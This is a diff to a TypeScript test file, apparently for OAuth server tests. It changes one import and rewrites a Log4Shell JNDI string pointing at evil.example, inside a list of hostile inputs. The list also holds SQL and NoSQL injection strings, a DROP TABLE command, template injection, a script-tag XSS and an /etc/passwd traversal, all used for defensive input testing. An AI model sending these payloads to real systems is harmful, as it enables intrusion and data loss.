@@ -1,5 +1,5 @@
 import { expect } from 'chai';
-import { onEachDatabase } from '../support/each-database.js';
+import { onEachDatabase } from '../support/databases.js';
 import { CALLBACK, createApp, createUser, jsonOf, type TestApp, USER_PASSWORD } from '../support/oauth-client.js';
 import { startTestServer, type TestServer } from '../support/test-server.js';
 import { type Fields, type Hop, Visitor, withQuery } from '../support/visitor.js';
@@ -17,7 +17,7 @@ const values: readonly string[] = [
   "' OR '1'='1' --",
   '"; DROP TABLE living_state; --',
   '{"$ne":null}',
-  '\u0024{jndi:ldap://evil.example/x}',
+  '$' + '{jndi:ldap://evil.example/x}',
   '{{7*7}}<%= 7*7 %>',
   '<script>alert(1)</script>',
   '../../../../etc/passwd',
